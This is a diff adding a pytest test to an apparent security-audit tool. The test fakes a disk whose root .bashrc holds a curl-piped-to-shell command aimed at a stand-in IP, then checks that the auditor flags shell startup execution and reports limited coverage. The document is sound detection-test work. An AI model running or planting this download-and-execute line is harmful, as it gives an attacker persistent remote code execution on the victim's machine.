@@ -77,3 +77,19 @@ def test_good(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> 
     told = audited(server(tmp_path, GOOD[name], gpu=gpus([8802], flat(pcie=9e5))), capsys)
     assert [(f["id"], f["subject"]) for f in told["findings"] if f["severity"] != "info"] == []
     assert (told["compromise"], told["posture"]) == ("none", "sound")
+
+
+def test_a_mounted_disk_has_a_home_of_root(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """root/ of a disk is a person's home, not the root of a copy of some files."""
+    for path, text in {
+        "etc/passwd": "root:x:0:0::/root:/bin/bash\n",
+        "root/.bashrc": "curl -s http://198.51.100.7/x | sh\n",
+        "var/lib/x": "",
+    }.items():
+        place = tmp_path / path
+        place.parent.mkdir(parents=True, exist_ok=True)
+        place.write_text(text)
+    told = audited(tmp_path, capsys)
+    assert "shell_rc_exec" in {f["id"] for f in told["findings"]}
+    assert any(gap["check"] == "audit.processes" for gap in told["not_looked_at"])
+    assert told["coverage"] == "limited"
